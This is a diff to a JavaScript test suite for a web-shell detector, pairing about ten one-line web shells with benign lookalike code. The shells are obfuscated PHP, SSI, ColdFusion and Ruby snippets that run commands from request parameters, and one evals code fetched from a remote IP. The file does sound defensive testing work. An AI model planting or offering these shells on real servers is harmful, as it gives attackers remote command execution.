@@ -65,3 +65,28 @@ test('words in pieces', () => {
 	expect(score("<?php $f = str_replace('x', '', 'sxyxsxtxexm'); $f($_POST['c']);")).toBeGreaterThanOrEqual(5);
 	expect(score("<?php $sql = 'select ' . 'a'; $x = str_replace('-', '', $y); echo $_GET['a'];")).toBeLessThan(3);
 });
+
+test.each([
+	['/var/www/a.php', '<?php usort($_POST,"assert");'],
+	['/var/www/a.php', '<?php $f=create_function("",$_POST["c"]);$f();'],
+	['/var/www/a.php', '<?php $r=new ReflectionFunction($_GET["f"]);$r->invoke($_GET["a"]);'],
+	['/var/www/a.php', '<?php eval(file_get_contents("http://203.0.113.9/a.txt"));'],
+	['/var/www/a.php', '<?php $f=hex2bin("73797374656d");$f($_COOKIE["c"]);'],
+	['/var/www/a.php', '<?php $a=chr(115).chr(121).chr(115).chr(116);$a($_SERVER["HTTP_X"]);'],
+	['/var/www/a.php', '<?php @include "\\x2fvar\\x2fwww\\x2fb\\x6cog.ico";'],
+	['/var/www/a.shtml', '<!--#exec cmd="$QUERY_STRING_UNESCAPED" -->'],
+	['/var/www/a.cfm', '<cfexecute name="#url.c#" timeout="5"></cfexecute>'],
+	['/srv/www/a.rb', 'require "sinatra"\nget("/y") { `#{params[:c]}` }\n'],
+])('a shell seldom looked for: %s %s', (path, content) => {
+	expect(sweep(webShells, memoryHost({ [path]: content })).map(({ severity }) => severity)).toEqual(['high']);
+});
+
+test.each([
+	['/var/www/a.php', '<?php usort($items, "compare_by_name"); array_map("trim", $_POST); $f = base64_decode($x); echo $f;'],
+	['/var/www/a.php', '<?php include "templates/logo.php"; $data = file_get_contents("https://api.example.org/x"); json_decode($data);'],
+	['/var/www/a.shtml', '<!--#include virtual="/header.html" --><!--#exec cgi="/cgi-bin/counter" -->'],
+	['/srv/www/a.rb', 'get("/y") { User.find(params[:id]).name }\nsystem("git", "pull")\n'],
+	['/var/www/a.cfm', '<cfquery name="q">select 1</cfquery><cfexecute name="/usr/bin/convert" arguments="a b"></cfexecute>'],
+])('and what is no shell: %s %s', (path, content) => {
+	expect(sweep(webShells, memoryHost({ [path]: content })).filter(({ severity }) => !/^(?:info|low)$/.test(severity))).toEqual([]);
+});
